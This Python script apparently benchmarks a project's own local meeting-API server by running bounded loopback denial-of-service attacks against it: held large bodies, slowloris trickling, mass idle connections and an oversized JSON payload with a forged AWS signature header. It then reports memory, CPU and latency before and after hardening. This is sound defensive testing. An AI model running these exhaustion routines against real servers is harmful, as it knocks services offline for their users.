#!/usr/bin/env python3
"""Attacks a running local server (`cargo xtask serve`, any-key mode) over loopback and prints
what it cost: the server's RSS (from /proc/PID/status) and CPU, and a valid request's latency
during the attack. The figures of docs/local-server.md come from this script, run
against the server before and after its hardening.

    target/debug/xtask serve --listen 127.0.0.1:8000 &
    scripts/server-attack.py --addr 127.0.0.1:8000 --pid $! held
    scripts/server-attack.py --addr 127.0.0.1:8000 --pid $! slowloris|idle|huge

Every attack is bounded in connections and time and stops by itself. Loopback only.
"""

import argparse
import socket
import threading
import time

FORGED = (
    "x-amz-date: 20260301T000000Z\r\n"
    "authorization: AWS4-HMAC-SHA256 Credential=AKIDATTACKER/20260301/us-east-1/chime/aws4_request, "
    "SignedHeaders=host;x-amz-date, Signature=" + "0" * 64 + "\r\n"
)


def status(pid, field):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field):
                return int(line.split()[1]) / 1024
    return 0.0


def cpu(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / 100


def connect(host, port, timeout=5):
    s = socket.create_connection((host, port), timeout=timeout)
    return s


def valid_request(host, port):
    """A GetMeeting for an unknown meeting: its latency in seconds, or None on failure."""
    start = time.monotonic()
    try:
        s = connect(host, port, timeout=10)
        s.sendall((f"GET /meetings/11111111-2222-4333-8444-555555555555 HTTP/1.1\r\nhost: {host}:{port}\r\n"
                   f"{FORGED}connection: close\r\n\r\n").encode())
        data = s.recv(64)
        s.close()
        return time.monotonic() - start if data.startswith(b"HTTP/1.1 ") else None
    except OSError:
        return None


def held(host, port, pid, n, size, seconds):
    before = status(pid, "VmRSS")
    socks = []

    def attack():
        try:
            s = connect(host, port)
            s.sendall((f"POST /meetings HTTP/1.1\r\nhost: {host}:{port}\r\n{FORGED}"
                       f"content-type: application/json\r\ncontent-length: {size}\r\n\r\n").encode())
            s.settimeout(seconds)
            chunk = b" " * 65536
            sent = 0
            while sent + len(chunk) < size:
                s.sendall(chunk)
                sent += len(chunk)
            socks.append(s)
        except OSError:
            pass

    threads = [threading.Thread(target=attack) for _ in range(n)]
    for t in threads:
        t.start()
    peak = before
    end = time.monotonic() + seconds
    latency = None
    while time.monotonic() < end:
        peak = max(peak, status(pid, "VmRSS"))
        if latency is None and time.monotonic() > end - seconds / 2:
            latency = valid_request(host, port)
        time.sleep(0.1)
    for t in threads:
        t.join(timeout=1)
    for s in socks:
        s.close()
    time.sleep(2)
    after2 = status(pid, "VmRSS")
    time.sleep(10)
    peak = max(peak, status(pid, "VmHWM"))
    print(f"held: {n} x {size} B bodies for {seconds}s: RSS {before:.1f} MiB before, peak {peak:.1f} MiB, "
          f"{after2:.1f} MiB 2 s and {status(pid, 'VmRSS'):.1f} MiB 12 s after closing; "
          f"a GetMeeting meanwhile: {latency}")


def slowloris(host, port, pid, n, seconds):
    socks = [connect(host, port) for _ in range(n)]
    head = b"POST /meetings HTTP/1.1\r\nhost: x\r\nx-padding: "
    start = cpu(pid)
    end = time.monotonic() + seconds
    i = 0
    while time.monotonic() < end:
        byte = head[i:i + 1] if i < len(head) else b"a"
        for s in socks:
            try:
                s.send(byte)
            except OSError:
                pass
        i += 1
        time.sleep(0.2)
    open_ = 0
    for s in socks:
        try:
            s.setblocking(False)
            data = s.recv(1)
            if data != b"":
                open_ += 1
        except BlockingIOError:
            open_ += 1
        except OSError:
            pass
        s.close()
    print(f"slowloris: {n} connections trickling a head for {seconds}s: {open_} still open; "
          f"server CPU {cpu(pid) - start:.2f}s")


def idle(host, port, pid, n, seconds):
    socks = []
    for _ in range(n):
        try:
            socks.append(connect(host, port, timeout=2))
        except OSError:
            break
    start = cpu(pid)
    time.sleep(seconds)
    used = cpu(pid) - start
    latency = valid_request(host, port)
    alive = 0
    for s in socks:
        try:
            s.setblocking(False)
            if s.recv(1) != b"":
                alive += 1
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
        s.close()
    print(f"idle: {len(socks)} idle connections opened, {alive} still open after {seconds}s; "
          f"server CPU {used:.2f}s in {seconds}s; a GetMeeting then: {latency}")


def huge(host, port, pid, n):
    body = ('{"ClientRequestToken":"t","MediaRegion":"us-east-1","ExternalMeetingId":"huge","TenantIds":['
            + ",".join(['""'] * n) + "]}").encode()
    before = status(pid, "VmRSS")
    start = time.monotonic()
    s = connect(host, port, timeout=300)
    s.sendall((f"POST /meetings HTTP/1.1\r\nhost: {host}:{port}\r\n{FORGED}content-type: application/json\r\n"
               f"content-length: {len(body)}\r\nconnection: close\r\n\r\n").encode() + body)
    received = 0
    head = b""
    while True:
        data = s.recv(1 << 20)
        if not data:
            break
        if not head:
            head = data[:12]
        received += len(data)
    took = time.monotonic() - start
    print(f"huge: CreateMeeting with {n} TenantIds ({len(body)} B): {head.decode(errors='replace')} in {took:.2f}s, "
          f"{received} B back; RSS {before:.1f} MiB before, peak {status(pid, 'VmHWM'):.1f} MiB")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--addr", required=True)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("attack", choices=["held", "slowloris", "idle", "huge"])
    p.add_argument("-n", type=int)
    args = p.parse_args()
    host, port = args.addr.rsplit(":", 1)
    port = int(port)
    assert host.startswith("127."), "loopback only"
    if args.attack == "held":
        held(host, port, args.pid, args.n or 200, 1024 * 1024, 5)
    elif args.attack == "slowloris":
        slowloris(host, port, args.pid, args.n or 500, 15)
    elif args.attack == "idle":
        idle(host, port, args.pid, args.n or 2000, 3)
    else:
        huge(host, port, args.pid, args.n or 340_000)


if __name__ == "__main__":
    main()
